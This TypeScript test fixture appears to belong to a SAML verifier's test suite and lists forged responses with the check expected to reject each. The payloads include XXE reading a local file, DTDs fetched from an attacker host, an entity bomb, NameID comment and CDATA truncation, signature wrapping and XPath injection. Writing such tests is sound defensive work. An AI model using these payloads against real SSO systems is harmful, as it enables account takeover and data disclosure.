import { coveted, encoded, honest, nameIdOf, signedAnswer } from './answers.ts'
import type { Forgery } from './forgery.ts'
import type { NaiveHabits } from './naive-verifier.ts'
import { around, assertion, bare, evil, genuine, signature, withInner } from './wrapped-answers.ts'

/** Answers that attack whoever decodes and parses them, and answers whose identifiers mislead. */

const bytes = (name: string, message: string, caughtBy: Forgery['caughtBy']): Forgery => ({ name, message, caughtBy })

const forged = (
  name: string,
  xml: string,
  caughtBy: Forgery['caughtBy'],
  habits?: NaiveHabits,
  as: string = honest,
): Forgery => ({ name, message: encoded(xml), caughtBy, as, ...(habits && { habits }) })

const withMessage = (inner: string) =>
  genuine.replace('</samlp:Status>', `<samlp:StatusMessage>${inner}</samlp:StatusMessage></samlp:Status>`)

const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
const nested = (depth: number) => '<x:a>'.repeat(depth) + '</x:a>'.repeat(depth)
const many = (count: number, piece: (index: number) => string) =>
  Array.from({ length: count }, (_, i) => piece(i)).join('')
const inExtensions = (inner: string) =>
  around(`<samlp:Extensions xmlns:x="urn:x">${inner}</samlp:Extensions>`, assertion)
const longer = `${coveted}<!---->.attacker.example`
const nameWith = (inner: string) => signedAnswer({ nameId: nameIdOf(inner) })
const sameId = evil.replace('_evil', '_assertion')

/** A signed answer whose invalid byte is outside what is signed. */
const invalidUtf8 = () => {
  const [before, after] = withMessage('here').split('here')
  return Buffer.concat([Buffer.from(before ?? ''), Buffer.from([0xc3, 0x28]), Buffer.from(after ?? '')])
}

/** Base64 whose last character carries bits that no byte has. */
const secondSpelling = () => {
  const padded = genuine + ' '.repeat((4 - (Buffer.byteLength(genuine) % 3)) % 3)
  return encoded(padded).replace(/[AQgw]==$/, (end) => `${String.fromCharCode(end.charCodeAt(0) + 1)}==`)
}

export const markupForgeries: readonly Forgery[] = [
  bytes('a message larger than the bound', encoded(genuine) + '\n'.repeat(262_144), ['too_large']),
  bytes('base64 that is cut off', encoded(`${genuine} `).replace(/=*$/, '').slice(0, -1), ['not_base64']),
  bytes('base64 with characters that a lenient reader skips', encoded(genuine).replace(/^.{8}/, '$&*!*'), [
    'not_base64',
  ]),
  bytes('base64 in a second spelling of the same bytes', secondSpelling(), ['not_base64']),
  bytes('base64 for URLs', Buffer.from(`${genuine}${' '.repeat(3)}`).toString('base64url'), ['not_base64']),
  bytes('bytes that are not UTF-8', invalidUtf8().toString('base64'), ['not_utf8']),
  forged('a DTD', `<!DOCTYPE x>${genuine}`, ['dtd']),
  forged('a DTD from elsewhere', `<!DOCTYPE x SYSTEM "https://attacker.example.com/x.dtd">${genuine}`, ['dtd']),
  forged(
    'a DTD that gives attributes default values',
    `<!DOCTYPE x [<!ATTLIST saml:Assertion ID ID "_x">]>${genuine}`,
    ['dtd'],
  ),
  forged('an entity bomb', `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>${withMessage('&l9;')}`, [
    'dtd',
    'entity_reference',
    'not_well_formed',
  ]),
  forged(
    'an entity of quadratic size',
    `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(1_000)}">]>${withMessage('&a;'.repeat(1_000))}`,
    ['dtd', 'entity_reference', 'not_well_formed'],
  ),
  forged('an external entity', `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/hostname">]>${withMessage('&f;')}`, [
    'dtd',
    'entity_reference',
    'not_well_formed',
  ]),
  forged('a parameter entity', `<!DOCTYPE x [<!ENTITY % p SYSTEM "https://attacker.example.com/p">%p;]>${genuine}`, [
    'dtd',
  ]),
  forged('a reference to an entity that nobody declared', withMessage('&nbsp;'), [
    'entity_reference',
    'not_well_formed',
  ]),
  forged('a reference to no character', withMessage('&#0;'), ['entity_reference']),
  forged('a reference to half a character', withMessage('&#xD800;'), ['entity_reference']),
  forged('a comment that cuts the name short', nameWith(longer), ['comment'], { readsFirstText: true }, coveted),
  forged('a comment elsewhere', around(assertion, '<!-- nothing -->'), ['comment']),
  forged(
    'CDATA that cuts the name short',
    nameWith('admin<![CDATA[@attacker.example]]>'),
    ['cdata'],
    { readsFirstText: true },
    'admin',
  ),
  forged('CDATA elsewhere', withMessage('<![CDATA[</samlp:Response>]]>'), ['cdata']),
  forged(
    'a processing instruction that cuts the name short',
    nameWith('admin<?x y?>@attacker.example'),
    ['processing_instruction'],
    { readsFirstText: true },
    'admin',
  ),
  forged('a stylesheet', `<?xml-stylesheet href="https://attacker.example.com/"?>${genuine}`, [
    'processing_instruction',
  ]),
  forged('another encoding than that of the bytes', `<?xml version="1.0" encoding="UTF-7"?>${genuine}`, [
    'processing_instruction',
  ]),
  forged('an element inside the name', nameWith('admin<saml:X></saml:X>@attacker.example'), ['name_id'], undefined, ''),
  forged('a second root', `${genuine}<x></x>`, ['not_well_formed']),
  forged('text after the root', `${genuine}x`, ['not_well_formed']),
  forged('attributes without a space between them', genuine.replace('" Version="2.0">', '"Version="2.0">'), [
    'not_well_formed',
  ]),
  forged('an attribute without quotes', genuine.replace(' Version="2.0">', ' Version=2.0>'), ['not_well_formed']),
  forged('tags that do not match', withMessage('<x:a xmlns:x="urn:x"></x:b>'), ['not_well_formed']),
  forged('a control character', withMessage('\u0001'), ['not_well_formed']),
  forged('elements nested too deep', inExtensions(nested(100)), ['too_complex']),
  forged('too many elements', inExtensions('<x:a></x:a>'.repeat(6_000)), ['too_complex']),
  forged('too many attributes', inExtensions(`<x:a${many(100, (i) => ` a${i}=""`)}></x:a>`), ['too_complex']),
  forged('too many names of elements', inExtensions(many(200, (i) => `<x:a${i}></x:a${i}>`)), ['too_complex']),
  forged('too many prefixes', inExtensions(`<x:a${many(50, (i) => ` xmlns:p${i}="urn:p"`)}></x:a>`), ['too_complex']),
  forged('another message than a response', genuine.replaceAll('samlp:Response', 'samlp:ArtifactResponse'), [
    'not_response',
  ]),
  forged('another version of SAML', genuine.replace(' Version="2.0">', ' Version="1.1">'), ['not_response']),
  forged(
    'a response in a namespace that only looks right',
    genuine.replace(/samlp:Response/g, 'x:Response').replace(' xmlns', ' xmlns:x="urn:x" xmlns'),
    ['not_response', 'namespace_lookalike'],
  ),
  forged(
    'an encrypted assertion beside the signed one',
    around('<saml:EncryptedAssertion></saml:EncryptedAssertion>', assertion),
    ['encrypted', 'unknown_element'],
  ),
  forged(
    'only an encrypted assertion',
    around(
      `<saml:EncryptedAssertion><e:EncryptedData xmlns:e="http://www.w3.org/2001/04/xmlenc#"><e:CipherValue>${encoded(around(evil))}</e:CipherValue></e:EncryptedData></saml:EncryptedAssertion>`,
    ),
    ['encrypted', 'assertion_count', 'unknown_element'],
    { believes: true, reads: 'encrypted' },
    coveted,
  ),
  forged(
    'an encrypted attribute',
    signedAnswer({
      attributes:
        '<saml:AttributeStatement><saml:EncryptedAttribute></saml:EncryptedAttribute></saml:AttributeStatement>',
    }),
    ['encrypted'],
  ),
  forged('another meaning for the prefix xml', inExtensions('<x:a xmlns:xml="urn:x"></x:a>'), ['namespace_unsound']),
  forged('a relative namespace', inExtensions('<r:a xmlns:r="1"></r:a>'), ['namespace_unsound']),
  forged('an unknown element in the response', around(assertion, '<x:a xmlns:x="urn:x"></x:a>'), ['unknown_element']),
  forged(
    'an assertion without an identifier',
    around(withInner(bare.replace(' ID="_assertion"', ''), signature)),
    ['id_unsound', 'reference_target'],
    { believes: true },
  ),
  forged(
    'two assertions of one identifier',
    around(sameId, assertion),
    ['assertion_count', 'id_duplicate', 'signature_missing'],
    { takes: 'last', in: 'Assertion' },
    coveted,
  ),
  forged('one identifier for two elements', inExtensions('<x:a ID="_assertion"></x:a>'), ['id_duplicate'], {
    takes: 'last',
    in: 'Assertion',
  }),
  forged(
    'an identifier in another spelling, on an element that was signed',
    around(
      `<samlp:Extensions>${bare.replace('ID=', 'Id=').replaceAll('saml:Assertion', 'saml:Copy')}</samlp:Extensions>`,
      withInner(evil.replace('_evil', '_assertion'), signature),
    ),
    ['id_duplicate'],
    { believes: true },
    coveted,
  ),
  forged(
    'an assertion with two spellings of its identifier',
    around(withInner(evil.replace('ID="_evil"', 'ID="_evil" Id="_assertion"'), signature)),
    ['id_unsound', 'reference_target'],
    { believes: true },
    coveted,
  ),
  forged(
    'an identifier with a prefix',
    around(withInner(evil.replace('ID="_evil"', 'ID="_evil" xml:id="_assertion"'), signature)),
    ['id_unsound', 'reference_target'],
    { believes: true },
    coveted,
  ),
  forged(
    'an identifier that is a piece of XPath',
    around(withInner(evil.replace('_evil', `x' or '1'='1`), signature)),
    ['id_unsound', 'reference_target'],
    { believes: true },
    coveted,
  ),
]
